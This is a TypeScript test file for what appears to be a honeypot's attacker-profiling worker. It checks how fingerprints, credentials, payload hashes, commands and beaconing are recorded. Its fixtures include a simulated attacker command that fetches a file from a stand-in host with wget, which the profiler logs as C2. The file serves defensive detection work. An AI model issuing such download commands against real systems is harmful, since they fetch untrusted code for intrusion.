import { hash } from 'node:crypto'
import { attackerProfile } from '@decnet/contracts/api'
import { attackerId } from '@decnet/kernel'
import { PARTITIONS } from '@decnet/kernel/log'
import { exampleRecord } from '@decnet/kernel/log/conformance'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { FEATURES } from '../../domain/profile/features.ts'
import { newlyShown, observationOf, observationsOf } from '../../store/features.ts'
import { onEachDatabase } from '../../store/fixtures/each-database.ts'
import { HALVES, HOSTILE } from '../../store/fixtures/hostile-text.ts'
import { logTable } from '../../store/log-table.ts'
import type { Store } from '../../store/open.ts'
import { profileOf } from '../../store/profiles.ts'
import { deleteOlder } from '../../store/retention.ts'
import profiler from './worker.ts'

const T0 = 1_763_000_000_000
const A = '203.0.113.7'
const B = '203.0.113.8'
const DAY = 86_400_000

onEachDatabase('what an attacker can be told by', ({ open }) => {
  let store: Store
  beforeEach(async () => {
    store = await open()
  })
  afterEach(() => store.close())

  type Seen = Partial<Parameters<typeof exampleRecord>[0]>
  /** Appends events, one a second, and profiles them in one batch. */
  async function feed(...events: readonly Seen[]): Promise<void> {
    const log = logTable(store)
    const from = await log.head()
    const written = await log.transaction((_tx, log) =>
      log.append(events.map((event, n) => exampleRecord({ ts: T0 + (from + n) * 1_000, attackerIp: A, ...event }))),
    )
    const parts = Array.from({ length: PARTITIONS }, (_, part) => part)
    await log.transaction((tx) => profiler.handle(written, { tx, emit: () => undefined, ring: () => undefined, parts }))
  }
  const command = (text: string, more: Seen = {}): Seen => ({ type: 'command', body: { command: text }, ...more })
  const secret = hash('sha256', 'pw')

  it('becomes an observation: fingerprints, payloads, hosts, credentials and commands in the order of their first use', async () => {
    await feed(
      { type: 'connect', body: { src_asn: '64500' } },
      { type: 'client_hello', body: { hassh: 'a'.repeat(32), client_version: 'SSH-2.0-Go', src_asn: '64501' } },
      { type: 'auth_attempt', body: { principal: 'root', secret_b64: Buffer.from('pw').toString('base64'), outcome: 'success' } },
      command('wget http://198.51.100.9:81/x'),
      command('id', { decky: 'db-01' }),
      command('id'),
      { type: 'file_captured', body: { sha256: 'f'.repeat(64), size: '3' } },
      { type: 'connect', body: {}, attackerIp: B },
    )
    const found = await observationOf(store.db, attackerId(A))
    expect(found).toEqual({
      id: attackerId(A),
      ip: A,
      asn: 64_500,
      firstSeen: T0,
      lastSeen: T0 + 6_000,
      fingerprints: { ja3: [], ja4: [], hassh: ['a'.repeat(32)] },
      payloads: ['f'.repeat(64)],
      c2: ['198.51.100.9:81'],
      credentials: [['root', secret]],
      credentialTimes: [T0 + 2_000],
      accepted: [['root', secret]],
      commands: [
        { ts: T0 + 3_000, decky: 'web-01', text: 'wget http://198.51.100.9:81/x' },
        { ts: T0 + 4_000, decky: 'db-01', text: 'id' },
      ],
      deckies: ['web-01', 'db-01'],
    })
    expect(await observationOf(store.db, attackerId('192.0.2.1'))).toBeNull()
    const all = await observationsOf(store.db, [attackerId(A), attackerId(B)])
    expect(all.map(({ id }) => id)).toEqual([attackerId(A), attackerId(B)].sort())
    expect(all.find(({ id }) => id === attackerId(A))).toEqual(found)
  })

  it('is told as it was when the log had come so far, and stays so', async () => {
    await feed({ type: 'connect', body: {} }, command('id'), command('w'))
    const then = await observationOf(store.db, attackerId(A), 2)
    expect(then).toMatchObject({ firstSeen: T0, lastSeen: T0 + 1_000, commands: [{ text: 'id' }] })
    await feed(command('id'), command('ps'), { type: 'connect', body: {}, decky: 'db-01' })
    expect(await observationOf(store.db, attackerId(A), 2)).toEqual(then)
  })

  it('is there on each day on which it came, though it showed nothing new, and each is news once', async () => {
    const day = (n: number, seconds = 0): Seen => ({ type: 'connect', body: {}, ts: T0 + n * DAY + seconds * 1_000 })
    const seen = new Map<string, number>()
    const news = async (days: boolean) => (await newlyShown(store.db, [attackerId(A)], 1_000, { seen, days })).length
    await feed(day(0))
    expect([await news(true), await news(true)]).toEqual([1, 0])
    await feed(day(0, 60))
    expect(await news(true)).toBe(0)
    await feed(day(9), day(9, 60), day(4))
    expect([await news(false), await news(true), await news(true)]).toEqual([0, 1, 0])
    const begins = Math.floor((T0 + 9 * DAY) / DAY) * DAY
    expect(await observationOf(store.db, attackerId(A))).toMatchObject({ firstSeen: T0, lastSeen: begins })
    expect((await profileOf(store.db, A))?.kept.day).toBe(3)
  })

  it('is as old as its oldest event, and in their order, however late their log came; to whoever follows that is news', async () => {
    const early: Seen[] = [
      { type: 'auth_attempt', body: { principal: 'ops', secret_b64: 'YQ==' }, ts: T0 - 2 * DAY },
      command('w', { ts: T0 - 2 * DAY + 5_000, decky: 'old-01' }),
    ]
    const late: Seen[] = [command('id', { ts: T0 }), command('w', { ts: T0 + 5_000 }), command('id', { ts: T0 - 60_000, decky: 'skewed' })]
    const seen = new Map<string, number>()
    await feed(...late)
    await newlyShown(store.db, [attackerId(A)], 1_000, { seen, days: false })
    await feed(...early)
    expect(await newlyShown(store.db, [attackerId(A)], 1_000, { seen, days: false })).toEqual([attackerId(A)])
    const found = await observationOf(store.db, attackerId(A))
    expect(found?.firstSeen).toBe(T0 - 2 * DAY)
    expect(found?.commands).toEqual([
      { ts: T0 - 2 * DAY + 5_000, decky: 'old-01', text: 'w' },
      { ts: T0, decky: 'web-01', text: 'id' },
    ])
  })

  it('is kept to the first of each kind, and what comes beyond is counted', async () => {
    await feed(...Array.from({ length: FEATURES.command + 10 }, (_, n) => command(`echo ${n}`)), command('echo 0'), command('echo last'))
    const profile = await profileOf(store.db, A)
    expect([profile?.kept.command, profile?.beyond.command]).toEqual([FEATURES.command, 11])
    expect((await observationOf(store.db, attackerId(A)))?.commands.map(({ text }) => text)).toEqual(
      Array.from({ length: FEATURES.command }, (_, n) => `echo ${n}`),
    )
  })

  it('holds any text; long ones are cut and told apart all the same', async () => {
    const texts = [...HOSTILE, ...HALVES].filter((text) => text !== '')
    const long = 'x'.repeat(5_000)
    for (let at = 0; at < texts.length; at += 50) await feed(...texts.slice(at, at + 50).map((text) => command(text)))
    await feed(command(`${long}1`), command(`${long}2`), {
      type: 'client_hello',
      body: { client_version: `${'\u0000\ud800'.repeat(600)}` },
    })
    const { commands = [] } = (await observationOf(store.db, attackerId(A))) ?? {}
    expect(commands).toHaveLength(new Set(texts).size + 2)
    expect(commands.slice(-2).map(({ text }) => text.length)).toEqual([1_024, 1_024])
  })

  it('is a profile as the API tells it: rhythm, tools, phases, the way with what changed on it', async () => {
    const at = (minute: number, decky: string, n: number): Seen => ({
      type: 'connect',
      body: {},
      ts: T0 + minute * 60_000,
      decky,
      sessionId: `s${n}`,
    })
    await feed(
      ...Array.from({ length: 6 }, (_, n) => at(n, n < 3 ? 'web-01' : 'db-01', n)),
      { type: 'client_hello', ts: T0 + 360_000, body: { client_version: 'SSH-2.0-libssh2_1.11.0' }, sessionId: 's5', decky: 'db-01' },
      { type: 'auth_attempt', ts: T0 + 361_000, body: { outcome: 'success' }, sessionId: 's5', decky: 'db-01' },
      ...[90, 400].map((second) => ({
        topic: 'decky.db-01.mutation',
        ts: T0 + second * 1_000,
        attackerIp: null,
        body: {
          ...{ decky: 'db-01', old_services: ['ssh'], new_services: ['ssh', 'ftp'], trigger: 'scheduled' },
          ...{ started_at: new Date(T0).toISOString(), ended_at: new Date(T0).toISOString() },
        },
      })),
    )
    const profile = attackerProfile.parse(await profileOf(store.db, A))
    expect(profile).toMatchObject({
      behaviour: 'beaconing',
      beacon: { jitter_pct: 0 },
      timing: { contacts: { count: 5, mean: 60, sd: 0, cv: 0 } },
      phases: [{ phase: 'contact', count: 7 }, { phase: 'entry' }],
      entry_after_s: 361,
      action_after_s: null,
      traversal: {
        path: ['web-01', 'db-01'],
        duration_s: 361,
        hops: [{ visits: 3 }, { visits: 3 }],
        mutations: [{ trigger: 'scheduled' }],
      },
    })
    expect(profile.tools.map(({ name }) => name)).toEqual(['libssh2', 'cobalt-strike'])
  })

  it('goes with the attacker when that is let go', async () => {
    await feed({ type: 'connect', body: {} })
    const options = { limit: 10, readers: [], now: T0 }
    await deleteOlder(store.db, { attackers: { before: T0 + 86_400_000 } }, options)
    expect(await store.db.selectFrom('attacker_features').selectAll().execute()).toEqual([])
  })
})
